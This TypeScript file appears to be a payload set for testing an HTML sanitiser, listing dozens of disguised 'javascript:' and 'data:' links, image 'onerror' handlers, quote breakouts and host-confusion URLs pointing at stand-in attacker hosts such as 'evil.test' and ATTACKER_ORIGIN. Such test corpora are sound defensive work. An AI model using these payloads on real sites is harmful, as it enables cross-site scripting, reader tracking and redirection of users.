// Addresses that run a script or lead elsewhere than they look: schemes in disguise, and ways around "absolute".
import { ATTACKER_ORIGIN, toBase64, toEntities, type PayloadFamily } from './payload-family';

const link = (address: string) => `<a href="${address}">a</a>`;

export const ADDRESS_PAYLOADS: PayloadFamily = {
  'a script as an address': (run) => link(`javascript:${run}`),
  'a scheme in mixed case': (run) => link(`JaVaScRiPt:${run}`),
  'spaces before the scheme': (run) => link(`  \n javascript:${run}`),
  'a control character before the scheme': (run) => link(`\u0001javascript:${run}`),
  'an entity of a control character before the scheme': (run) => link(`&#14; &#1;javascript:${run}`),
  'a tab in the scheme': (run) => link(`java\tscript:${run}`),
  'a line feed in the scheme': (run) => link(`java\nscript:${run}`),
  'a carriage return in the scheme': (run) => link(`java\rscript:${run}`),
  'a null in the scheme': (run) => link(`java\u0000script:${run}`),
  'named entities in the scheme': (run) => link(`java&Tab;scr&NewLine;ipt&colon;${run}`),
  'entities of white space in the scheme': (run) => link(`j&#97;v&#x0A;asc&#0000009;ript:${run}`),
  'all in decimal entities': (run) => link(toEntities(`javascript:${run}`, 10)),
  'all in padded decimal entities': (run) => link(toEntities(`javascript:${run}`, 10, 9)),
  'all in decimal entities without an end': (run) => link(toEntities(`javascript:${run}`, 10, 7, '')),
  'all in hexadecimal entities': (run) => link(toEntities(`javascript:${run}`, 16)),
  'all in padded hexadecimal entities without an end': (run) => link(toEntities(`javascript:${run}`, 16, 8, '')),
  'an address without quotes': (run) => `<a href=javascript:${run}>a</a>`,
  'an address in backticks': (run) => `<a href=\`javascript:${run}\`>a</a>`,
  'a script that looks like an address': (run) => link(`javascript://parley.test/%0a${run}`),
  'a script percent-encoded': (run) => link(`javascript:%68it(${run.slice(4, -1)})`) + link(`javascript%3A${run}`),
  'a scheme of wide letters': (run) => link(`\uFF4Aavascript:${run}`) + link(`java\u017Fcript:${run}`),
  'a scheme with letters that leave no trace': (run) =>
    link(`java\u200Bscript:${run}`) + link(`java\u00ADscript:${run}`) + link(`\uFEFFjavascript:${run}`),
  'other scripts': (run) =>
    ['vbscript', 'livescript', 'mocha', 'jscript'].map((name) => link(`${name}:${run}`)).join(''),
  'schemes within schemes': (run) =>
    ['view-source', 'feed', 'jar', 'blob', 'filesystem'].map((name) => link(`${name}:javascript:${run}`)).join(''),
  'a page as a data address': (run) => link(`data:text/html,<script>${run}</script>`),
  'a page as a data address in base64': (run) => link(`data:text/html;base64,${toBase64(`<script>${run}</script>`)}`),
  'a drawing as a data address': (run) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  'a picture that is a script': (run) => `<img src="javascript:${run}">`,
  'a picture under old attributes': (run) =>
    `<img lowsrc="javascript:${run}" dynsrc="javascript:${run}" src=x onerror=${run}>`,
  'a set of pictures': () => `<img srcset="${ATTACKER_ORIGIN}/a.png 1x, ${ATTACKER_ORIGIN}/b.png 2x" sizes="100vw">`,
  'a link that tells on its readers': () => `<a href="#a" ping="${ATTACKER_ORIGIN}/ping">a</a>`,
  'an address without a scheme': () => link('//evil.test') + '<img src="//evil.test/a.png">',
  'an address with backslashes': () =>
    link('\\\\evil.test') + link('/\\evil.test') + '<img src="\\\\evil.test\\a.png"><img src="/\\evil.test/b.png">',
  'a scheme without slashes': () => link('https:evil.test/a') + '<img src="https:evil.test/a.png">',
  'a scheme with one slash': () => link('https:/evil.test/a') + '<img src="https:/evil.test/a.png">',
  'a scheme with backslashes': () => link('https:\\\\evil.test') + '<img src="https:\\\\evil.test/a.png">',
  'relative addresses': () => link('a') + link('/a') + link('?a') + link('#a') + '<img src="a.png"><img src="">',
  'a scheme that is not secure': () =>
    link('http://evil.test') + '<img src="http://evil.test/a.png">' + link('ftp://evil.test'),
  'a host that hides behind a user': () => link('https://parley.test@evil.test') + link('https://a:b@evil.test'),
  'a host that hides behind a backslash': () => link('https://evil.test\\@parley.test'),
  'a link that breaks out of its quotes': (run) => `<a href='https://parley.test/"onmouseover="${run}'>a</a>`,
  'a mail address that breaks out of its quotes': (run) => `<a href='mailto:"onmouseover=${run}@x.test'>a</a>`,
  'a telephone number that is a script': (run) => link(`tel:javascript:${run}`),
  'a placeholder as a scheme': (run) => link(`[First Name]:${run}`) + link(`java[First Name]script:${run}`),
  'a placeholder as a host': () => link('https://[First Name]/') + link('https://x.[City].test/') + link('//[City]'),
  'a placeholder before a script': (run) => link(`[You Negotiate Link]javascript:${run}`),
  'a script before a placeholder': (run) => link(`javascript:${run}//[You Negotiate Link]`),
  'a placeholder as a picture': () => '<img src="[You Negotiate Link]"><img src="data:[First Name]">',
};
